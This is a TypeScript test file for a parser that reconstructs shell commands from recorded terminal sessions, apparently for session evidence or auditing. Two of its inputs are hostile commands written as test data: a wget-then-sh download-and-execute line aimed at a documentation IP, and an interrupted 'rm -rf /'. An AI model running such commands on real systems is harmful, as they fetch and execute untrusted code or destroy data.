import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { PlainLines, ShellLines, type ShellLine } from "../../gateway/evidence/shell-lines.ts";

/** What a real shell on a real terminal was sent ("i") and sent back ("o"), one character per byte. */
function terminal(name: string): [direction: "i" | "o", bytes: string][] {
  return JSON.parse(readFileSync(join(import.meta.dirname, "terminals", name), "utf8")) as [
    "i" | "o",
    string,
  ][];
}

function linesOf(stream: readonly (readonly ["i" | "o", string])[]): ShellLine[] {
  const lines = new ShellLines(80);
  const out: ShellLine[] = [];
  for (const [direction, text] of stream) {
    const bytes = Buffer.from(text, "latin1");
    out.push(...(direction === "i" ? lines.input(bytes) : lines.output(bytes)));
  }
  return [...out, ...lines.end()];
}

const BASH: [ShellLine["kind"], string][] = [
  ["command", "uname -m"],
  ["command", "ls -d /tmp"], // four backspaces in it
  ["command", "ls -d /tmp"], // the same again from history
  ["command", "cat > /tmp/mbk-note"],
  ["typed", "hello there"],
  ["command", "Xecho ho hi"], // completed with Tab, then changed at its start
  ["command", 'read -s -p "Password: " x'],
  ["typed", "s3cret"],
  ["command", "sleep 1"],
  ["command", "echo ahead one"], // these two were sent while it slept
  ["command", "echo ahead two"],
  ["command", "uname -m"], // found with ^R
  ["command", `echo ${"long ".repeat(30)}end`], // over two lines of the screen
  ["command", "echo pasted"],
  ["command", "vi /tmp/mbk-note"], // keys inside of it are no commands
  ["command", "for i in 1 2"],
  ["command", "do echo $i"],
  ["command", "done"],
  ["command", "sh"],
  ["command", "echo in dash"],
  ["command", "uname -s"],
  ["command", "exit"],
  ["command", "echo h\xc3\xa9llo"], // one of two letters of two bytes taken back
  ["command", "exit"],
];

test("commands, and what programs were told, are read from a session with bash", () => {
  assert.deepEqual(
    linesOf(terminal("bash.json")).map(({ kind, text }) => [kind, text]),
    BASH,
  );
});

test("the same comes out when every byte comes alone", () => {
  const bytes = terminal("bash.json").flatMap(([direction, text]) =>
    Array.from(text, (one) => [direction, one] as const),
  );
  assert.deepEqual(
    linesOf(bytes)
      .filter(({ kind, exact }) => kind === "command" && exact)
      .map(({ text }) => text)
      .slice(0, 3),
    ["uname -m", "ls -d /tmp", "cat > /tmp/mbk-note"],
  );
});

test("a shell without bracketed paste is read as well, and said to be approximate", () => {
  assert.deepEqual(
    linesOf(terminal("dash.json")).map(({ text, exact }) => [text, exact]),
    [
      ["uname -m", false],
      ["uname -s", false],
      ["echo hi", false],
      ["exit", false],
    ],
  );
});

test("lines sent before any output are commands, if nothing ever says otherwise", () => {
  assert.deepEqual(linesOf([["i", "wget http://192.0.2.1/a\nsh a\n"]]), [
    { kind: "command", text: "wget http://192.0.2.1/a", exact: false },
    { kind: "command", text: "sh a", exact: false },
  ]);
});

test("an interrupted line is no command", () => {
  assert.deepEqual(
    linesOf([
      ["o", "\x1b[?2004h# "],
      ["i", "rm -rf /\x03"],
      ["o", "^C\r\n\x1b[?2004l\r"],
    ]),
    [],
  );
});

test("without a terminal, lines are what lies between line feeds", () => {
  const lines = new PlainLines();
  assert.deepEqual(lines.input(Buffer.from("id\r\nuname")), [{ kind: "command", text: "id", exact: true }]);
  assert.deepEqual(lines.input(Buffer.from(" -a")), []);
  assert.deepEqual(lines.end(), [{ kind: "command", text: "uname -a", exact: true }]);
});

test("random bytes neither throw nor take long, and lines stay bounded", () => {
  const lines = new ShellLines(0);
  let seed = 1;
  const random = () => (seed = (seed * 48271) % 2147483647);
  const started = performance.now();
  for (let round = 0; round < 400; round++) {
    const bytes = Buffer.from(Array.from({ length: 512 }, () => random() % 256));
    const said = random() % 2 === 0 ? lines.input(bytes) : lines.output(bytes);
    for (const { text } of said) assert.ok(text.length <= 4 * 32_768);
  }
  lines.end();
  assert.ok(performance.now() - started < 20_000);
});

test("endless lines in both directions are cut", () => {
  const lines = new ShellLines(80);
  lines.output(Buffer.from("\x1b[?2004h$ "));
  for (let round = 0; round < 100; round++) {
    lines.input(Buffer.alloc(4096, "a"));
    lines.output(Buffer.alloc(4096, "a"));
  }
  const [line] = lines.input(Buffer.from("\r"));
  assert.equal(line?.text.length, 32_768);
  assert.equal(line.exact, false);
});
